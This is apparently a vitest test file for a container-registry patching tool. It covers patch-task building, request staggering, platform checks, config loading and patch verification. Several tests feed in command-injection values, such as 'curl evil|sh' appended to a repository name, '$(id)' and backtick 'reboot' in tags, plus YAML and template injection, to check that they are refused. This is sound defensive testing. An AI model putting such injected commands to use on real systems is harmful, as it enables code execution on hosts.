import { randomBytes } from 'node:crypto';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { describe, expect, inject, it } from 'vitest';
import type { AlertInput } from '../../shared/alerts/alertInput';
import { loadSettings } from '../../shared/config/settings';
import { SettingsError } from '../../shared/config/settingsError';
import { loadPatchConfig } from '../../shared/patching/patchConfigFile';
import { patchablePlatform } from '../../shared/patching/imageAssessment';
import { decodePatchRequest } from '../../shared/patching/patchRequest';
import { staggerDelaySeconds } from '../../shared/patching/patchRequestSink';
import { PatchRunStore, type PatchRun } from '../../shared/patching/patchRunStore';
import { buildPatchTask, PATCH_TASK_YAML, patchTargetRepository } from '../../shared/patching/patchTask';
import { PatchVerificationObserver } from '../../shared/patching/patchVerifier';
import { assertSafeTaskValues, TaskRunError } from '../../shared/registry/taskRunner';
import type { ScanVerdictEvent } from '../../shared/scan/verdictObserver';
import { freshTable } from '../support/intakeFixtures';

const DIGEST = `sha256:${'a'.repeat(64)}`;
const taskInput = {
    loginServer: 'contoso.azurecr.io',
    repository: 'live/app',
    tag: '1.0',
    digest: DIGEST,
    patchTag: '1.0-1',
    targetRepository: 'quarantine/app',
    trivyImage: 'ghcr.io/aquasecurity/trivy:0.58.1',
    dbRepositories: ['ghcr.io/aquasecurity/trivy-db:2'],
    copaImage: 'mcr.microsoft.com/acr/cssc:7260211',
    buildkitImage: 'docker.io/moby/buildkit:v0.16.0',
};

describe('patch task', () => {
    it('keeps the YAML constant and puts every per-image part in values', () => {
        const task = buildPatchTask(taskInput);
        expect(task.taskYaml).toBe(PATCH_TASK_YAML);
        expect(task.taskYaml).not.toContain('live/app');
        expect(task.taskYaml).toContain('--ignore-unfixed');
        expect(task.taskYaml).toContain('--addr tcp://127.0.0.1:8888');
        expect(task.values['patchedImage']).toBe('contoso.azurecr.io/quarantine/app:1.0-1');
    });

    it.each([
        ['repository', { repository: 'live/app;curl evil|sh' }],
        ['tag', { tag: '1.0$(id)' }],
        ['tag', { tag: '1.0\n  - cmd: evil' }],
        ['patch tag', { patchTag: '{{.Values.x}}' }],
        ['digest', { digest: 'sha256:../../etc' }],
        ['target', { targetRepository: 'Quarantine/App' }],
        ['image', { copaImage: 'evil image' }],
    ])('refuses a hostile %s before anything is scheduled', (_what, override) => {
        expect(() => buildPatchTask({ ...taskInput, ...override })).toThrow(TypeError);
    });

    it('never pushes over the original repository', () => {
        expect(() => buildPatchTask({ ...taskInput, targetRepository: 'live/app' })).toThrow(/original repository/);
        expect(patchTargetRepository('live/team/app', { quarantinePrefix: 'quarantine/', livePrefix: 'live/' })).toEqual({ ok: true, repository: 'quarantine/team/app' });
        expect(patchTargetRepository('quarantine/app', { quarantinePrefix: 'quarantine/', livePrefix: 'live/' }).ok).toBe(false);
    });

    it('refuses a patch request with a hostile tag at the queue', () => {
        const decoded = decodePatchRequest({
            schema: 'acr-guard.patch-request', version: 1, kind: 'patch', cycleId: 'c1', registry: 'contoso.azurecr.io', repository: 'live/app',
            tag: 'x`reboot`', latestPatchTag: null, nextPatchTag: 'x-1', tagConvention: 'incremental', requestedAt: new Date().toISOString(),
        });
        expect(decoded).toMatchObject({ ok: false, reason: expect.stringMatching(/tag: not a valid OCI tag/) });
        expect(decodePatchRequest({ schema: 'acr-guard.patch-request', version: 2 })).toMatchObject({ ok: false, reason: expect.stringMatching(/unsupported patch request version 2/) });
    });

    it('checks task values again at the runner boundary', () => {
        expect(() => assertSafeTaskValues({ tag: 'a b' })).toThrow(TaskRunError);
    });
});

describe('cycle throttling and platform decisions', () => {
    it('staggers requests so at most K become due per minute, with no cap on their number', () => {
        expect([0, 9, 10, 19, 20, 12_345].map((i) => staggerDelaySeconds(i, 10))).toEqual([0, 0, 60, 60, 120, 1234 * 60]);
        expect(staggerDelaySeconds(10_000_000, 1)).toBeLessThanOrEqual(7 * 24 * 3600);
    });

    it('decides the platform from the manifest and config', () => {
        expect(patchablePlatform({ isIndex: false, platforms: [{ os: 'windows', architecture: 'amd64' }] })).toMatchObject({ ok: false, reason: 'windows' });
        expect(patchablePlatform({ isIndex: true, platforms: [{ os: 'linux', architecture: 'amd64' }, { os: 'linux', architecture: 'arm64' }] })).toMatchObject({ ok: false, reason: 'multi-arch' });
        expect(patchablePlatform({ isIndex: false, platforms: [{ os: 'linux', architecture: 's390x' }] })).toMatchObject({ ok: false, reason: 'unsupported-platform' });
        expect(patchablePlatform({ isIndex: false, platforms: [{ os: 'linux', architecture: 'arm64' }] })).toEqual({ ok: true, architecture: 'arm64' });
    });
});

describe('patch settings', () => {
    const base = { ACR_GUARD_STORAGE: 'UseDevelopmentStorage=true', ACR_GUARD_REGISTRY_LOGIN_SERVER: 'contoso.azurecr.io', ACR_GUARD_REGISTRY_RESOURCE_ID: '/subscriptions/0/resourceGroups/rg/providers/Microsoft.ContainerRegistry/registries/contoso' };
    it('reads and validates the config file at start-up, failing with the setting named', () => {
        const dir = mkdtempSync(path.join(tmpdir(), 'acr-guard-patch-settings-'));
        const good = path.join(dir, 'good.json');
        const bad = path.join(dir, 'bad.json');
        writeFileSync(good, JSON.stringify({ version: 'v1', repositories: [{ repository: 'live/app', tags: ['1.0'] }] }));
        writeFileSync(bad, JSON.stringify({ version: 'v1', repositories: [{ repository: 'live/app', tags: ['1.0-1'] }] }));
        const patchConfigOf = (env: Record<string, string>) => loadPatchConfig(loadSettings(env).patchConfigPath);
        expect(patchConfigOf({ ...base })).toBeUndefined();
        expect(patchConfigOf({ ...base, ACR_GUARD_PATCH_CONFIG_PATH: good })?.repositories[0]?.repository).toBe('live/app');
        expect(() => patchConfigOf({ ...base, ACR_GUARD_PATCH_CONFIG_PATH: bad })).toThrow(/ACR_GUARD_PATCH_CONFIG_PATH is malformed: .*reserved for internal use/);
        expect(() => patchConfigOf({ ...base, ACR_GUARD_PATCH_CONFIG_PATH: path.join(dir, 'missing.json') })).toThrow(/does not exist in the path specified/);
        expect(() => loadSettings({ ...base, ACR_GUARD_PATCH_SCHEDULE: '31d' })).toThrow(SettingsError);
    });
});

describe('patch verification observer', () => {
    const run = (over: Partial<PatchRun>): PatchRun => ({
        cycleId: 'c1', registry: 'contoso.azurecr.io', repository: 'live/app', tag: '1.0', originalDigest: DIGEST, scannedTag: '1.0', scannedDigest: DIGEST,
        latestPatchTag: null, patchTag: '1.0-1', targetRepository: 'quarantine/app', patchedDigest: null, fixableBefore: 3, fixableAfter: null,
        status: 'patched', reason: null, evidence: 'scan', scanRunId: null, patchRunId: 'ca1', patchedVerdict: null, createdAt: new Date(), updatedAt: new Date(), ...over,
    });
    const finding = (fixed: string | null) => ({
        vulnerabilityId: 'CVE-1', severity: 'HIGH' as const, status: null, pkgName: 'openssl', pkgId: null, pkgPath: null, installedVersion: '1', fixedVersion: fixed,
        title: null, target: 'os', resultClass: 'os-pkgs', resultType: 'debian', occurrences: 1,
    });
    const verdict = (outcome: 'pass' | 'fail') => ({ outcome, reasons: outcome === 'fail' ? [{ code: 'blocked-vulnerabilities', message: '1 blocked' }] : [] });
    const event = (digest: string, outcome: 'pass' | 'fail'): ScanVerdictEvent => ({
        registry: 'contoso.azurecr.io', repository: 'quarantine/app', digest, tag: '1.0-1', scanId: 's1', reason: 'push', scannedAt: new Date(), verdict: verdict(outcome),
        previous: null, newFindings: [], dbVersion: null, redelivered: false,
    });

    it('verifies a passing patch with fewer fixable vulnerabilities, and alerts on one that is not', async () => {
        const runs = new PatchRunStore(await freshTable(inject('azuriteConnectionString'), `PatchRuns${randomBytes(4).toString('hex')}`));
        const raised: AlertInput[] = [];
        const findings = new Map<string, ReturnType<typeof finding>[]>();
        const observer = new PatchVerificationObserver({
            runs,
            results: { listFindings: async (d) => findings.get(d) ?? [] },
            alerts: { raise: async (a) => void raised.push(a) },
            quarantinePrefix: 'quarantine/',
        });
        const good = `sha256:${'b'.repeat(64)}`;
        findings.set(good, [finding('2'), finding(null)]);
        await runs.put(run({}));
        await observer.onVerdict(event(good, 'pass'));
        expect(await runs.get('c1', 'live/app', '1.0')).toMatchObject({ status: 'verified', fixableAfter: 1, patchedDigest: good, patchedVerdict: 'pass' });
        expect(raised).toEqual([]);

        const worse = `sha256:${'c'.repeat(64)}`;
        findings.set(worse, [finding('2'), finding('2'), finding('2')]);
        await runs.put(run({ cycleId: 'c2', patchTag: '1.0-2' }));
        await observer.onVerdict({ ...event(worse, 'fail'), tag: '1.0-2' });
        expect(await runs.get('c2', 'live/app', '1.0')).toMatchObject({ status: 'regressed', fixableAfter: 3, reason: expect.stringMatching(/did not pass the gate.*not fewer than the 3/) });
        expect(raised).toEqual([expect.objectContaining({ kind: 'patch-failed', detectedBy: 'patch', subject: expect.objectContaining({ repository: 'quarantine/app', tag: '1.0-2', digest: worse }) })]);

        // A verdict on an image that is not a patch tag costs nothing and changes nothing.
        await observer.onVerdict({ ...event(worse, 'fail'), tag: '1.0' });
        expect(raised).toHaveLength(1);
    });
});
